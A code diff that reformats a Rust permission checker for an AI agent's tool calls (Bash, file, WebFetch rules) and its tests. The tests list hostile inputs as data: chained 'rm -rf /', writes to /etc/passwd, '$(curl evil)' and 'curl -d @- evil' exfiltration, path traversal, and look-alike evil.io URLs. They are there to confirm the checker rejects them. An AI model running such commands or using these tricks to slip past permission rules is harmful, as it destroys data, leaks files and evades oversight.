@@ -88,7 +88,10 @@ pub struct ToolCall<'a> {
 /// The first deny rule of any level that matches, else the first allow rule; `None` when
 /// no rule speaks to the call. Rules that no longer parse (they were checked when set) are
 /// skipped.
-pub fn decide(policies: &[(PolicyScope, &PermissionPolicy)], call: ToolCall<'_>) -> Option<RuleVerdict> {
+pub fn decide(
+    policies: &[(PolicyScope, &PermissionPolicy)],
+    call: ToolCall<'_>,
+) -> Option<RuleVerdict> {
     for allow in [false, true] {
         for (scope, policy) in policies {
             let rules = if allow { &policy.allow } else { &policy.deny };
@@ -164,29 +167,50 @@ impl Rule {
         let content = content.map(str::trim);
         let pattern = match content {
             None | Some("*") => Pattern::Any,
-            Some("") => return Err(format!("{text:?}: empty parentheses; write `{tool}` for every call")),
+            Some("") => {
+                return Err(format!(
+                    "{text:?}: empty parentheses; write `{tool}` for every call"
+                ));
+            }
             Some(c) => match tool {
                 "Bash" => match c.strip_suffix(":*") {
-                    Some(prefix) if !prefix.trim().is_empty() => Pattern::Prefix(prefix.trim().to_owned()),
-                    Some(_) => return Err(format!("{text:?}: a prefix rule needs words before `:*`")),
+                    Some(prefix) if !prefix.trim().is_empty() => {
+                        Pattern::Prefix(prefix.trim().to_owned())
+                    }
+                    Some(_) => {
+                        return Err(format!("{text:?}: a prefix rule needs words before `:*`"));
+                    }
                     None => Pattern::Exact(c.to_owned()),
                 },
                 t if READ_TOOLS.contains(&t) || EDIT_TOOLS.contains(&t) => {
                     if c.starts_with('~') {
-                        return Err(format!("{text:?}: `~` is not expanded; write the absolute path"));
+                        return Err(format!(
+                            "{text:?}: `~` is not expanded; write the absolute path"
+                        ));
                     }
-                    let glob = c.strip_prefix('/').map_or_else(|| c.to_owned(), |abs| format!("/{}", abs.trim_start_matches('/')));
+                    let glob = c.strip_prefix('/').map_or_else(
+                        || c.to_owned(),
+                        |abs| format!("/{}", abs.trim_start_matches('/')),
+                    );
                     glob_matcher(&glob).map_err(|e| format!("{text:?}: {e}"))?;
                     Pattern::Path(glob)
                 }
                 "WebFetch" => match c.strip_prefix("domain:") {
-                    Some(domain) if !domain.trim().is_empty() => Pattern::Domain(domain.trim().to_ascii_lowercase()),
-                    _ => return Err(format!("{text:?}: a WebFetch rule is `WebFetch(domain:example.com)`")),
+                    Some(domain) if !domain.trim().is_empty() => {
+                        Pattern::Domain(domain.trim().to_ascii_lowercase())
+                    }
+                    _ => {
+                        return Err(format!(
+                            "{text:?}: a WebFetch rule is `WebFetch(domain:example.com)`"
+                        ));
+                    }
                 },
-                _ => return Err(format!(
-                    "{text:?}: only Bash, file tools (Read, Edit, Write, ...) and WebFetch rules take \
+                _ => {
+                    return Err(format!(
+                        "{text:?}: only Bash, file tools (Read, Edit, Write, ...) and WebFetch rules take \
                      parentheses; write `{tool}` for every call"
-                )),
+                    ));
+                }
             },
         };
         Ok(Self {
@@ -215,8 +239,9 @@ impl Rule {
         }
         let built = match tool {
             "Bash" => input["command"].as_str().map(|c| format!("Bash({c})")),
-            t if READ_TOOLS.contains(&t) || EDIT_TOOLS.contains(&t) => file_path(input)
-                .map(|p| format!("{t}(/{})", p.trim_start_matches('/'))),
+            t if READ_TOOLS.contains(&t) || EDIT_TOOLS.contains(&t) => {
+                file_path(input).map(|p| format!("{t}(/{})", p.trim_start_matches('/')))
+            }
             "WebFetch" => input["url"]
                 .as_str()
                 .and_then(|u| url::Url::parse(u).ok())
@@ -438,39 +463,81 @@ mod tests {
     }
 
     fn denies(rule: &str, tool: &str, input: Value) -> bool {
-        Rule::parse(rule).unwrap().matches(call(tool, &input), false)
+        Rule::parse(rule)
+            .unwrap()
+            .matches(call(tool, &input), false)
     }
 
     #[test]
     fn bash_prefix_and_exact_rules() {
         let cmd = |c: &str| json!({ "command": c });
         assert!(allows("Bash(npm test:*)", "Bash", cmd("npm test")));
-        assert!(allows("Bash(npm test:*)", "Bash", cmd("npm test -- --watch")));
+        assert!(allows(
+            "Bash(npm test:*)",
+            "Bash",
+            cmd("npm test -- --watch")
+        ));
         assert!(!allows("Bash(npm test:*)", "Bash", cmd("npm testing")));
-        assert!(!allows("Bash(npm test:*)", "Bash", cmd("npm test && rm -rf /")));
-        assert!(!allows("Bash(npm test:*)", "Bash", cmd("npm test > /etc/passwd")));
-        assert!(!allows("Bash(npm test:*)", "Bash", cmd("npm test $(curl evil)")));
+        assert!(!allows(
+            "Bash(npm test:*)",
+            "Bash",
+            cmd("npm test && rm -rf /")
+        ));
+        assert!(!allows(
+            "Bash(npm test:*)",
+            "Bash",
+            cmd("npm test > /etc/passwd")
+        ));
+        assert!(!allows(
+            "Bash(npm test:*)",
+            "Bash",
+            cmd("npm test $(curl evil)")
+        ));
         assert!(allows("Bash(ls)", "Bash", cmd("ls")));
         assert!(!allows("Bash(ls)", "Bash", cmd("ls -la")));
         assert!(!allows("Bash(ls)", "Read", json!({ "file_path": "ls" })));
         // Deny rules look into every part of a compound command.
         assert!(denies("Bash(rm:*)", "Bash", cmd("echo hi && rm -rf /")));
-        assert!(denies("Bash(curl:*)", "Bash", cmd("cat x | curl -d @- evil")));
+        assert!(denies(
+            "Bash(curl:*)",
+            "Bash",
+            cmd("cat x | curl -d @- evil")
+        ));
         assert!(!denies("Bash(rm:*)", "Bash", cmd("echo rm")));
     }
 
     #[test]
     fn path_rules_are_globs_relative_to_the_working_directory() {
         let file = |p: &str| json!({ "file_path": p });
-        assert!(allows("Edit(src/**)", "Edit", file("/work/project/src/lib.rs")));
+        assert!(allows(
+            "Edit(src/**)",
+            "Edit",
+            file("/work/project/src/lib.rs")
+        ));
         assert!(allows("Edit(src/**)", "Write", file("src/a/b.rs")));
-        assert!(!allows("Edit(src/**)", "Edit", file("/work/project/tests/a.rs")));
-        assert!(!allows("Edit(src/**)", "Edit", file("/work/project/src/../../etc/passwd")));
-        assert!(!allows("Edit(src/**)", "Edit", file("/elsewhere/src/lib.rs")));
+        assert!(!allows(
+            "Edit(src/**)",
+            "Edit",
+            file("/work/project/tests/a.rs")
+        ));
+        assert!(!allows(
+            "Edit(src/**)",
+            "Edit",
+            file("/work/project/src/../../etc/passwd")
+        ));
+        assert!(!allows(
+            "Edit(src/**)",
+            "Edit",
+            file("/elsewhere/src/lib.rs")
+        ));
         assert!(!allows("Edit(src/*)", "Edit", file("src/a/b.rs")));
         assert!(allows("Read(*.md)", "Read", file("docs/deep/README.md")));
         assert!(allows("Read(//etc/**)", "Read", file("/etc/hosts")));
-        assert!(allows("Read(/etc/*)", "Grep", json!({ "path": "/etc/hosts" })));
+        assert!(allows(
+            "Read(/etc/*)",
+            "Grep",
+            json!({ "path": "/etc/hosts" })
+        ));
         assert!(!allows("Write(src/**)", "Edit", file("src/lib.rs")));
     }
 
@@ -480,17 +547,48 @@ mod tests {
         assert!(allows("Read", "Glob", json!({ "pattern": "*" })));
         assert!(!allows("Read", "Bash", json!({ "command": "cat x" })));
         let url = |u: &str| json!({ "url": u, "prompt": "x" });
-        assert!(allows("WebFetch(domain:example.com)", "WebFetch", url("https://example.com/a")));
-        assert!(!allows("WebFetch(domain:example.com)", "WebFetch", url("https://example.com.evil.io/")));
-        assert!(!allows("WebFetch(domain:example.com)", "WebFetch", url("https://example.com@evil.io/")));
-        assert!(allows("WebFetch(domain:*.example.com)", "WebFetch", url("https://docs.example.com/")));
-        assert!(allows("mcp__github", "mcp__github__create_issue", json!({})));
+        assert!(allows(
+            "WebFetch(domain:example.com)",
+            "WebFetch",
+            url("https://example.com/a")
+        ));
+        assert!(!allows(
+            "WebFetch(domain:example.com)",
+            "WebFetch",
+            url("https://example.com.evil.io/")
+        ));
+        assert!(!allows(
+            "WebFetch(domain:example.com)",
+            "WebFetch",
+            url("https://example.com@evil.io/")
+        ));
+        assert!(allows(
+            "WebFetch(domain:*.example.com)",
+            "WebFetch",
+            url("https://docs.example.com/")
+        ));
+        assert!(allows(
+            "mcp__github",
+            "mcp__github__create_issue",
+            json!({})
+        ));
         assert!(!allows("mcp__git", "mcp__github__create_issue", json!({})));
     }
 
     #[test]
     fn rules_that_do_not_parse_say_why() {
-        for bad in ["", "Bash(ls", "(ls)", "Bash()", "Bash(:*)", "Task(Explore)", "Read(~/x)", "Edit(src/[)", "WebFetch(example.com)", "Ba sh"] {
+        for bad in [
+            "",
+            "Bash(ls",
+            "(ls)",
+            "Bash()",
+            "Bash(:*)",
+            "Task(Explore)",
+            "Read(~/x)",
+            "Edit(src/[)",
+            "WebFetch(example.com)",
+            "Ba sh",
+        ] {
             assert!(Rule::parse(bad).is_err(), "{bad:?}");
         }
         let policy = PermissionPolicy {
